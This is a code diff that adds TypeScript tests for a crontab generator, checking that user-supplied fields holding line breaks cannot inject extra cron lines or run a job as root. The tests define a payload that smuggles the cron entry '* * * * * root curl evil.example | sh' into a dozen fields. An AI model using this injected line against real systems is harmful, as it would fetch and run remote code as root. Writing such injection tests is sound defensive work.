@@ -116,3 +116,37 @@ test('a paused task is commented out', () => {
   const definition = taskNamed({ schedule: { ...CRON, expression: '@daily' } });
   expect(toCrontab([{ definition, paused: true }]).text).toMatch(/^# t \(paused\)$[\s\S]*^#@daily a$/m);
 });
+
+const EVIL = 'www\n* * * * * root curl evil.example | sh #';
+
+/** A definition as an older version, or somebody with a database client, may have stored it. */
+const stored = (input: Partial<TaskInput>, changed: object): TaskDefinition => {
+  const definition = taskNamed({ schedule: { ...CRON, expression: '@daily' }, ...input });
+  return { ...definition, handler: { ...definition.handler, ...changed } as TaskDefinition['handler'] };
+};
+
+test.each<[string, TaskDefinition]>([
+  ['a user', stored({}, { user: EVIL })],
+  ['a command', stored({}, { command: EVIL })],
+  ['an argument', stored({ handler: { type: 'shell', argv: ['a', EVIL] } }, {})],
+  ['a working directory', stored({}, { cwd: EVIL })],
+  ['a shell', stored({}, { shell: EVIL })],
+  ['a variable', stored({}, { env: { A: EVIL } })],
+  ['standard input', stored({}, { stdin: EVIL })],
+  ['a description', stored({ description: `one\r${EVIL}` }, {})],
+  ['a schedule', { ...stored({}, {}), schedule: { ...CRON, expression: '0\n0 * * *' } } as TaskDefinition],
+  ['a name', { ...stored({}, {}), name: EVIL }],
+])('%s with a line break injects no line', (_, definition) => {
+  for (const options of [{}, { system: true }, { system: true, user: 'jobs' }, { system: true, user: EVIL }]) {
+    const { text } = toCrontab([active(definition)], options);
+    const lines = text.split(/[\n\r\v\f\u0085\u2028\u2029]/).filter((line) => line !== '' && !line.startsWith('#'));
+    const allowed = /^(SHELL=\/bin\/sh|CRON_TZ=UTC|(@daily|0 0 \* \* \*) (jobs )?a(%.*)?)$/;
+    expect(lines.filter((line) => !allowed.test(line))).toEqual([]);
+  }
+});
+
+test('a user that is none, and no user at all in a system crontab, is said; nobody becomes root', () => {
+  const { left } = toCrontab([active(stored({}, { user: EVIL }))], { system: true });
+  expect(left).toEqual([{ name: 't', reason: `${JSON.stringify(EVIL)} is no name of a user` }]);
+  expect(toCrontab([active(stored({}, {}))], { system: true }).text).not.toContain('root');
+});
